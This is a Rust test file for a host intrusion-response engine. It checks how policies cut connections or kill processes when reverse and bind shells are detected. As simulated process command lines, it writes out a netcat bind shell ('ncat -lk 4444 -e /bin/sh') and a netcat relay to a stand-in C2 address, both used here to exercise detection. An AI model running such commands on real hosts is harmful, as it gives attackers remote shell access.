//! What is to be done at once about a shell.

use std::sync::Arc;

use netd_engine::Command;
use netd_engine::config::Config;
use netd_engine::finding::Severity;
use netd_engine::policy::{Mode, Policy};
use netd_engine::process::ProcessId;
use netd_engine::respond::{Measure, Order, Rule};
use netd_engine::verdict::{Response, Target};

use super::support::{Host, stdio};
use crate::support::World;

fn policy(detector: &str, from: Severity, measures: &[Measure]) -> Policy {
    let mut policy = Policy::default();
    policy.spec.mode = Mode::Enforce;
    let detector =
        *netd_engine::detect::Detector::ALL.iter().find(|known| known.name() == detector).expect("a detector");
    policy.spec.respond.insert(detector, Rule { from, measures: measures.to_vec() });
    policy
}

fn cuts() -> Policy {
    policy("host_reverse_shell", Severity::Medium, &[Measure::Cut])
}

fn world(policy: Policy) -> World {
    World::new(Config { policies: Arc::new(policy.into()), ..Config::default() })
}

fn orders(world: &mut World) -> Vec<Order> {
    let commands = world.commands().into_iter();
    commands.filter_map(|command| if let Command::Respond(order) = command { Some(*order) } else { None }).collect()
}

/// A shell whose standard streams are a connection to the C2.
fn shell() -> Host {
    let mut host = Host::default();
    host.sh(9);
    host.connected(&stdio(9));
    host
}

#[test]
fn a_policy_without_a_word_about_it_asks_for_nothing() {
    let mut silent = Policy::default();
    silent.spec.mode = Mode::Enforce;
    let mut world = world(silent);
    shell().look(&mut world, 9);

    assert!(orders(&mut world).is_empty());
}

#[test]
fn a_shell_is_answered_by_its_conversation_and_its_process() {
    let mut world = world(cuts());
    shell().look(&mut world, 9);

    let orders = orders(&mut world);
    assert_eq!(orders.len(), 1);
    let order = &orders[0];
    assert_eq!((order.finding, order.detector), (1, "host_reverse_shell"));
    assert_eq!((order.key.src.ip().to_string(), order.key.dst_port()), ("10.0.3.7".to_owned(), 4444));
    assert_eq!(order.process, Some(ProcessId { pid: 9, start_ticks: 9 }));
    assert_eq!((order.holder, &*order.measures, order.shadow), (Some(9), &[Measure::Cut][..], false));
    let cut = order.cut.as_ref().unwrap();
    let Target::FiveTuple { source, source_port, destination_port, .. } = cut.target else {
        panic!("{:?}", cut.target)
    };
    // The far end comes first, so that what is protected of it is told before this host's own address is.
    assert_eq!((source.to_string(), source_port, destination_port), ("198.51.100.7".to_owned(), 4444, 51_514));
    assert_eq!(cut.response, Response::Drop);
}

#[test]
fn no_verdict_is_asked_for_where_the_near_end_is_this_host_itself() {
    let mut config = Config { policies: Arc::new(cuts().into()), ..Config::default() };
    config.networks.own.push("10.0.3.7/32".parse().unwrap());
    let mut world = World::new(config);
    shell().look(&mut world, 9);

    let orders = orders(&mut world);
    assert_eq!((orders.len(), &orders[0].cut), (1, &None));
}

#[test]
fn the_response_comes_before_the_verdict() {
    let mut world = world(cuts());
    let mut host = shell();
    host.change(9).parents = Vec::new();
    host.look(&mut world, 9);

    let commands = world.commands();
    let place = |wanted: fn(&Command) -> bool| commands.iter().position(wanted);
    let respond = place(|command| matches!(command, Command::Respond(_))).unwrap();
    assert!(place(|command| matches!(command, Command::Report(_))).unwrap() < respond);
    assert!(place(|command| matches!(command, Command::Enforce { .. })).is_none_or(|verdict| respond < verdict));
}

#[test]
fn the_same_conversation_is_answered_once_and_another_again() {
    let mut world = world(cuts());
    let host = shell();
    host.look(&mut world, 9);
    assert_eq!(orders(&mut world).len(), 1);

    host.look(&mut world, 9);
    assert!(orders(&mut world).is_empty());

    let mut next = Host::default();
    next.sh(12);
    next.connected(&stdio(12));
    next.look(&mut world, 12);
    assert_eq!(orders(&mut world).len(), 1, "the shell that came after it");
}

#[test]
fn below_the_severity_of_the_rule_nothing_is_done() {
    let mut world = world(policy("host_reverse_shell", Severity::Critical, &[Measure::Kill]));
    let host = shell();
    host.look(&mut world, 9);

    let commands = world.commands();
    let most = commands.iter().filter_map(|c| if let Command::Report(f) = c { Some(f.severity) } else { None }).max();
    let asked = commands.iter().any(|command| matches!(command, Command::Respond(_)));
    assert_eq!(asked, most == Some(Severity::Critical));
    assert!(most.is_some());
}

#[test]
fn a_bind_shell_is_cut_though_its_port_is_this_hosts() {
    let mut host = Host::default();
    host.run(5, "/usr/bin/ncat", "ncat -lk 4444 -e /bin/sh");
    host.sh(9);
    host.below(9, 5);
    host.accepted(&stdio(9), 4444);
    host.listening(&[(5, 3)], 4444);
    let mut world = world(policy("bind_shell", Severity::High, &[Measure::Cut]));
    host.look(&mut world, 9);

    let orders = orders(&mut world);
    assert_eq!(orders.len(), 1);
    assert_eq!(orders[0].key.src_port(), 4444);
    assert!(!orders[0].is_protected);
}

#[test]
fn a_relays_socket_is_cut_and_the_shell_is_whom_to_kill() {
    let mut host = Host::default();
    host.sh(9);
    host.run(11, "/usr/bin/nc", "nc 198.51.100.7 4444");
    host.pipe(&[(11, 1)], &[(9, 0)]);
    host.pipe(&[(9, 1), (9, 2)], &[(11, 0)]);
    host.connected(&[(11, 3)]);
    let mut world = world(policy("host_reverse_shell", Severity::Medium, &[Measure::Cut, Measure::Kill]));
    host.look(&mut world, 9);

    let orders = orders(&mut world);
    assert_eq!(orders.len(), 1);
    assert_eq!((orders[0].process.map(|id| id.pid), orders[0].holder), (Some(9), Some(11)));
}

#[test]
fn exceptions_and_observation_hold_for_responses_too() {
    let mut spared = cuts();
    spared.spec.exceptions.destinations.push("198.51.100.0/24".parse().unwrap());
    let mut observing = cuts();
    observing.spec.mode = Mode::Observe;
    for policy in [spared, observing] {
        let mut world = world(policy);
        shell().look(&mut world, 9);

        assert!(orders(&mut world).is_empty());
    }
}

#[test]
fn a_shadow_policy_and_a_protected_end_are_said_in_the_order() {
    let mut policy = cuts();
    policy.spec.mode = Mode::Shadow;
    let mut config = Config { policies: Arc::new(policy.into()), ..Config::default() };
    config.networks.protected.push("198.51.100.7/32".parse().unwrap());
    let mut world = World::new(config);
    shell().look(&mut world, 9);

    let orders = orders(&mut world);
    assert!(orders[0].shadow && orders[0].is_protected);
}

#[test]
fn responses_take_from_the_hours_budget() {
    let mut policy = cuts();
    policy.spec.max_blocks_per_hour = 0;
    let mut world = world(policy);
    shell().look(&mut world, 9);

    assert!(orders(&mut world).is_empty());
    assert!(world.engine.counts().spared_budget > 0);
}
